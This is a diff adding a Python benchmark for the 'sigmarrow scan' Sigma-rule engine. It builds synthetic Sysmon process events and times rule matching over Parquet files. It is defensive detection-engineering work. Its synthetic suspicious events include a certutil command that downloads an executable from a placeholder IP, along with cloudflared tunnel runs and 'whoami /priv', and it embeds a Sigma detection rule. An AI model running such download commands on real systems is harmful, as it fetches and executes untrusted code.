@@ -1,0 +1,486 @@
+"""End-to-end ``sigmarrow scan`` throughput from Parquet, against pyarrow alone reading the
+same columns; and the peak memory of the command on a dataset much larger than its batches.
+
+Generates synthetic Sysmon process-creation events (seeded, cached under ``benches/data/``)
+as several zstd Parquet files with planted ``cloudflared.exe`` runs, then times, best of
+``--runs``:
+
+- ``pyarrow_read``: ``pyarrow.parquet.ParquetFile.iter_batches`` over every file, reading
+  only the columns the rules reference (what the scan reads): the floor for the scan.
+- ``scan``: ``sigmarrow.scan.scan`` (read, match, build the hit rows, write
+  ``hits.parquet``), with the engine on all cores and on one thread. Compiling the rules is
+  timed apart.
+
+Rule sets: ``cloudflared`` (SigmaHQ's Cloudflared Portable Execution rule, inline) and, when
+the SigmaHQ snapshot is there, ``process_creation`` (every rule of
+``rules/windows/process_creation``). Answers are checked: the cloudflared hits must be
+exactly the planted rows outside ``Program Files`` (computed while generating); the
+process-creation hits per rule must equal those of ``Matcher.match`` over the same files.
+
+Peak memory: ``sigmarrow scan --columns '*'`` (so that every column is read) runs as a
+child process (``python -m sigmarrow``) over one file and over all files; its peak RSS is
+compared with the in-memory size of the data it reads. The result goes to
+``benches/results/scan-<date>.json``.
+
+    python benches/bench_scan.py                       # 2,000,000 events in 8 files
+    python benches/bench_scan.py --events 200000 --files 4 --runs 1
+"""
+
+from __future__ import annotations
+
+import argparse
+import datetime as dt
+import json
+import os
+import platform
+import random
+import shlex
+import subprocess
+import sys
+import tempfile
+import time
+from collections import Counter
+from pathlib import Path
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import sigmarrow
+from sigmarrow.scan import discover_inputs, scan
+
+REPO_DIR = Path(__file__).resolve().parents[1]
+SIGMA_DIR = Path(os.environ.get("SIGMARROW_SIGMA_DIR", REPO_DIR.parent / "shared" / "sigma"))
+PROCESS_CREATION = SIGMA_DIR / "rules" / "windows" / "process_creation"
+DATA_DIR = REPO_DIR / "benches" / "data"
+RESULTS_DIR = REPO_DIR / "benches" / "results"
+
+CLOUDFLARED_RULE = r"""
+title: Cloudflared Portable Execution
+id: fadb84f0-4e84-4f6d-a1ce-9ef2bffb6ccd
+status: test
+description: Detects the execution of the "cloudflared" binary from a non standard location.
+author: Nasreddine Bencherchali (Nextron Systems)
+date: 2023-12-20
+tags:
+    - attack.command-and-control
+    - attack.t1090.001
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    selection:
+        Image|endswith: '\cloudflared.exe'
+    filter_main_admin_location:
+        Image|contains:
+            - ':\Program Files (x86)\cloudflared\'
+            - ':\Program Files\cloudflared\'
+    condition: selection and not 1 of filter_main_*
+level: medium
+"""
+
+# --- synthetic events --------------------------------------------------------------------
+
+SYS32 = "C:\\Windows\\System32\\"
+USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM"]
+BENIGN = [
+    (
+        SYS32 + "svchost.exe",
+        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}",
+        SYS32 + "services.exe",
+    ),
+    (
+        SYS32 + "conhost.exe",
+        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff",
+        SYS32 + "cmd.exe",
+    ),
+    (
+        SYS32 + "cmd.exe",
+        "C:\\Windows\\system32\\cmd.exe /c dir C:\\temp\\out{n}",
+        "C:\\Windows\\explorer.exe",
+    ),
+    (
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        (
+            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
+            "--renderer-client-id={n}"
+        ),
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+    ),
+    (
+        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+        "powershell.exe -NoProfile -File C:\\scripts\\inventory{n}.ps1",
+        "C:\\Windows\\explorer.exe",
+    ),
+    (
+        SYS32 + "notepad.exe",
+        '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\alice\\n{n}.txt',
+        "C:\\Windows\\explorer.exe",
+    ),
+    (SYS32 + "git.exe", "git.exe fetch origin --prune", SYS32 + "cmd.exe"),
+    (
+        SYS32 + "wbem\\WmiPrvSE.exe",
+        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
+        SYS32 + "svchost.exe",
+    ),
+]
+# Matched by a few SigmaHQ process-creation rules: one event in a hundred.
+SUSPICIOUS = [
+    (SYS32 + "whoami.exe", "whoami /priv", SYS32 + "cmd.exe"),
+    (
+        SYS32 + "certutil.exe",
+        "certutil.exe -urlcache -split -f http://203.0.113.{m}/a.exe a.exe",
+        SYS32 + "cmd.exe",
+    ),
+]
+SUSPICIOUS_SHARE = 0.01
+CLOUDFLARED = [  # (Image, is a hit of the portable-execution rule)
+    ("C:\\Users\\alice\\Downloads\\cloudflared.exe", True),
+    ("c:\\users\\bob\\appdata\\local\\temp\\CLOUDFLARED.EXE", True),
+    ("C:\\Program Files\\cloudflared\\cloudflared.exe", False),
+    ("C:\\PROGRAM FILES (X86)\\CLOUDFLARED\\cloudflared.exe", False),
+]
+PLANT_EVERY = 9_973  # a prime: planted rows fall at varied positions in batches and files
+
+
+def generate(events: int, files: int, seed: int) -> tuple[Path, int]:
+    """The dataset folder and the number of planted cloudflared hits (cached on disk)."""
+    folder = DATA_DIR / f"scan-v3-{events}-{files}-{seed}"
+    answer = folder / "_expected.json"
+    if answer.is_file():
+        return folder, json.loads(answer.read_text())["cloudflared_hits"]
+    folder.mkdir(parents=True, exist_ok=True)
+    rng = random.Random(seed)
+    base = dt.datetime(2026, 11, 1)
+    per_file = -(-events // files)
+    hits = 0
+    row = 0
+    for index in range(files):
+        n = min(per_file, events - row)
+        cols: dict[str, list] = {
+            k: []
+            for k in (
+                "EventID",
+                "UtcTime",
+                "Computer",
+                "User",
+                "ProcessId",
+                "Image",
+                "OriginalFileName",
+                "CommandLine",
+                "CurrentDirectory",
+                "IntegrityLevel",
+                "Hashes",
+                "ParentProcessId",
+                "ParentImage",
+                "ParentCommandLine",
+            )
+        }
+        for _ in range(n):
+            if row % PLANT_EVERY == PLANT_EVERY - 1:
+                image, hit = CLOUDFLARED[(row // PLANT_EVERY) % len(CLOUDFLARED)]
+                cmd, parent = f'"{image}" tunnel run --token x{row}', SYS32 + "cmd.exe"
+                hits += hit
+            else:
+                pool = SUSPICIOUS if rng.random() < SUSPICIOUS_SHARE else BENIGN
+                image, template, parent = rng.choice(pool)
+                cmd = template.format(
+                    n=rng.randrange(100000),
+                    m=rng.randrange(1, 255),
+                    svc=rng.choice(["Schedule", "BITS", "Winmgmt"]),
+                )
+            cols["EventID"].append(1)
+            cols["UtcTime"].append(
+                (base + dt.timedelta(milliseconds=37 * row)).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
+            )
+            cols["Computer"].append(f"ws{rng.randrange(500):04d}.corp.example")
+            cols["User"].append(rng.choice(USERS))
+            cols["ProcessId"].append(rng.randrange(100, 65000))
+            cols["Image"].append(image)
+            cols["OriginalFileName"].append(image.rsplit("\\", 1)[1])
+            cols["CommandLine"].append(cmd)
+            cols["CurrentDirectory"].append("C:\\Windows\\system32\\")
+            cols["IntegrityLevel"].append(rng.choice(["Medium", "High", "System"]))
+            cols["Hashes"].append(f"SHA256={rng.getrandbits(256):064X}")
+            cols["ParentProcessId"].append(rng.randrange(100, 65000))
+            cols["ParentImage"].append(parent)
+            cols["ParentCommandLine"].append(parent)
+            row += 1
+        ints = {"EventID": pa.int64(), "ProcessId": pa.int64(), "ParentProcessId": pa.int64()}
+        table = pa.table({k: pa.array(v, ints.get(k, pa.string())) for k, v in cols.items()})
+        pq.write_table(
+            table, folder / f"part-{index:05d}.parquet", compression="zstd", row_group_size=131_072
+        )
+        print(f"  generated {folder.name}/part-{index:05d}.parquet ({n:,} rows)", flush=True)
+    answer.write_text(json.dumps({"cloudflared_hits": hits, "events": events}))
+    return folder, hits
+
+
+# --- measuring ---------------------------------------------------------------------------
+
+
+def best_of(runs: int, fn):
+    times, result = [], None
+    for _ in range(runs):
+        start = time.perf_counter()
+        result = fn()
+        times.append(time.perf_counter() - start)
+    return min(times), times, result
+
+
+def pyarrow_read(files: list[Path], columns: list[str]) -> int:
+    rows = 0
+    for path in files:
+        pf = pq.ParquetFile(path)
+        for batch in pf.iter_batches(batch_size=65_536, columns=columns):
+            rows += batch.num_rows
+    return rows
+
+
+def projected_bytes(files: list[Path], columns: list[str] | None) -> int:
+    """Bytes the columns take in memory once read (what reading everything would hold)."""
+    total = 0
+    for path in files:
+        total += pq.read_table(path, columns=columns).nbytes
+    return total
+
+
+# Linux keeps a process's peak RSS across exec, so a child forked from this (large) process
+# would report our peak, not its own: a small launcher starts the command and reports it.
+_LAUNCHER = """
+import os, subprocess, sys
+proc = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL)
+_, status, usage = os.wait4(proc.pid, 0)
+print(usage.ru_maxrss * 1024, os.waitstatus_to_exitcode(status))
+"""
+
+
+def child_peak_rss(argv: list[str]) -> tuple[int, float]:
+    """Run a command; its peak RSS (bytes) and wall time."""
+    start = time.perf_counter()
+    proc = subprocess.run(
+        [sys.executable, "-c", _LAUNCHER, *argv], capture_output=True, text=True, check=False
+    )
+    seconds = time.perf_counter() - start
+    try:
+        peak, status = map(int, proc.stdout.split())
+    except ValueError:
+        status, peak = proc.returncode or -1, 0
+    if status != 0:
+        raise SystemExit(f"{' '.join(argv)} failed ({status}):\n{proc.stderr}")
+    return peak, seconds
+
+
+def machine() -> dict:
+    cpu = platform.processor()
+    try:
+        for line in Path("/proc/cpuinfo").read_text().splitlines():
+            if line.startswith("model name"):
+                cpu = line.split(":", 1)[1].strip()
+                break
+    except OSError:
+        pass
+    cores = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count()
+    mem = round(os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 2**30, 1)
+    return {
+        "cpu": cpu,
+        "cores": cores,
+        "memory_gib": mem,
+        "os": platform.platform(),
+        "python": platform.python_version(),
+        "load_average_at_start": [round(x, 2) for x in os.getloadavg()],
+    }
+
+
+def mib(n: float) -> float:
+    return round(n / 2**20, 1)
+
+
+def bench_rule_set(
+    name: str, rules: list[str], files: list[Path], expected, runs: int, work: Path
+) -> dict:
+    start = time.perf_counter()
+    m = sigmarrow.compile(rules)
+    compile_s = time.perf_counter() - start
+    probe = pq.ParquetFile(files[0]).schema_arrow
+    columns = [c for c in m.fields if c in probe.names]
+    inputs, _ = discover_inputs([str(f) for f in files])
+    rows = sum(pq.ParquetFile(f).metadata.num_rows for f in files)
+
+    pyarrow_read(files, columns)  # warm the page cache: every run then reads from memory
+    read_s, read_times, read_rows = best_of(runs, lambda: pyarrow_read(files, columns))
+    assert read_rows == rows
+
+    out = work / f"hits-{name}.parquet"
+    results = {}
+    for label, threads in (("scan", None), ("scan_1_thread", 1)):
+        seconds, times, summary = best_of(
+            runs, lambda threads=threads: scan(m, inputs, out, threads=threads)
+        )
+        assert summary.rows == rows, (summary.rows, rows)
+        results[label] = {
+            "seconds": round(seconds, 3),
+            "all_seconds": [round(t, 3) for t in times],
+            "rows_per_second": round(rows / seconds),
+            "vs_pyarrow_read": round(seconds / read_s, 2),
+        }
+    hits = pq.read_table(out, columns=["rule_id", "source_file", "source_row"])
+    per_rule = Counter(hits.column("rule_id").to_pylist())
+    check = expected(m, files, hits)
+    print(
+        f"  {name}: {len(m.rules)} rules, {hits.num_rows:,} hits; pyarrow read "
+        f"{rows / read_s:,.0f} rows/s; scan {results['scan']['rows_per_second']:,} rows/s "
+        f"({results['scan']['vs_pyarrow_read']}x the read time); 1 thread "
+        f"{results['scan_1_thread']['rows_per_second']:,} rows/s",
+        flush=True,
+    )
+    return {
+        "rules": len(m.rules),
+        "compile_errors": len(m.errors),
+        "compile_seconds": round(compile_s, 2),
+        "columns_read": columns,
+        "rows": rows,
+        "hits": hits.num_rows,
+        "rules_that_matched": len(per_rule),
+        "answer_check": check,
+        "pyarrow_read": {
+            "seconds": round(read_s, 3),
+            "all_seconds": [round(t, 3) for t in read_times],
+            "rows_per_second": round(rows / read_s),
+        },
+        **results,
+    }
+
+
+def check_cloudflared(planted: int):
+    def check(m, files, hits) -> str:
+        if hits.num_rows != planted:
+            raise SystemExit(f"cloudflared: {hits.num_rows} hits, expected {planted}")
+        return f"exactly the {planted} planted rows outside Program Files"
+
+    return check
+
+
+def check_against_match(m, files, hits) -> str:
+    """Hits per (file, rule) of the scan equal Matcher.match over each whole file."""
+    want: Counter = Counter()
+    for path in files:
+        table = pq.read_table(
+            path, columns=[c for c in m.fields if c in pq.ParquetFile(path).schema_arrow.names]
+        )
+        result = m.match(table)
+        for rule_id, n in Counter(result.column("rule_id").to_pylist()).items():
+            want[(str(path), rule_id)] += n
+    got = Counter(
+        zip(hits.column("source_file").to_pylist(), hits.column("rule_id").to_pylist(), strict=True)
+    )
+    if got != want:
+        raise SystemExit("process_creation: scan hits differ from Matcher.match")
+    return f"hits per file and rule equal Matcher.match ({sum(want.values()):,} hits)"
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--events", type=int, default=2_000_000)
+    parser.add_argument("--files", type=int, default=8)
+    parser.add_argument("--seed", type=int, default=7)
+    parser.add_argument("--runs", type=int, default=3, help="runs of the one-rule set")
+    parser.add_argument("--large-runs", type=int, default=1, help="runs of the large rule set")
+    parser.add_argument(
+        "--rules",
+        type=Path,
+        default=PROCESS_CREATION,
+        help="folder of the large rule set (default: SigmaHQ process_creation)",
+    )
+    parser.add_argument("--no-memory", action="store_true", help="skip the peak-memory runs")
+    args = parser.parse_args(argv)
+
+    print(f"dataset: {args.events:,} events in {args.files} files", flush=True)
+    folder, planted = generate(args.events, args.files, args.seed)
+    files = sorted(folder.glob("*.parquet"))
+    report: dict = {
+        "benchmark": "scan",
+        "date": dt.date.today().isoformat(),
+        "command": " ".join(
+            [
+                "python",
+                os.path.relpath(__file__, REPO_DIR),
+                *map(shlex.quote, sys.argv[1:] if argv is None else argv),
+            ]
+        ),
+        "machine": machine(),
+        "versions": {
+            "sigmarrow": getattr(sigmarrow, "__version__", "?"),
+            "pyarrow": pa.__version__,
+        },
+        "dataset": {
+            "events": args.events,
+            "files": len(files),
+            "bytes_on_disk": sum(f.stat().st_size for f in files),
+            "compression": "zstd",
+            "row_group_rows": 131_072,
+            "planted_cloudflared_hits": planted,
+        },
+        "rule_sets": {},
+    }
+    with tempfile.TemporaryDirectory(prefix="sigmarrow-bench-") as tmp:
+        work = Path(tmp)
+        rule = work / "cloudflared.yml"
+        rule.write_text(CLOUDFLARED_RULE)
+        report["rule_sets"]["cloudflared"] = bench_rule_set(
+            "cloudflared", [str(rule)], files, check_cloudflared(planted), args.runs, work
+        )
+        if args.rules.is_dir():
+            report["rule_sets"]["process_creation"] = bench_rule_set(
+                "process_creation",
+                [str(args.rules)],
+                files,
+                check_against_match,
+                args.large_runs,
+                work,
+            )
+        else:
+            print(f"  skipped the large rule set: {args.rules} not found", flush=True)
+
+        if not args.no_memory:
+            memory = {"rules": "cloudflared", "columns": "*", "runs": []}
+            for label, inputs in (("one file", files[:1]), ("all files", files)):
+                argv_ = [
+                    sys.executable,
+                    "-m",
+                    "sigmarrow",
+                    "scan",
+                    str(rule),
+                    "--input",
+                    *map(str, inputs),
+                    "--output",
+                    str(work / "mem.parquet"),
+                    "--columns",
+                    "*",
+                    "--quiet",
+                ]
+                peak, seconds = child_peak_rss(argv_)
+                data = projected_bytes(inputs, None)
+                memory["runs"].append(
+                    {
+                        "inputs": label,
+                        "rows": sum(pq.ParquetFile(f).metadata.num_rows for f in inputs),
+                        "data_in_memory_mib": mib(data),
+                        "peak_rss_mib": mib(peak),
+                        "seconds": round(seconds, 2),
+                    }
+                )
+                print(
+                    f"  memory, {label}: the data read takes {mib(data):,} MiB in memory; "
+                    f"peak RSS of `sigmarrow scan` {mib(peak):,} MiB",
+                    flush=True,
+                )
+            report["memory"] = memory
+
+    RESULTS_DIR.mkdir(parents=True, exist_ok=True)
+    path = RESULTS_DIR / f"scan-{report['date']}.json"
+    path.write_text(json.dumps(report, indent=2) + "\n")
+    print(f"wrote {os.path.relpath(path)}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
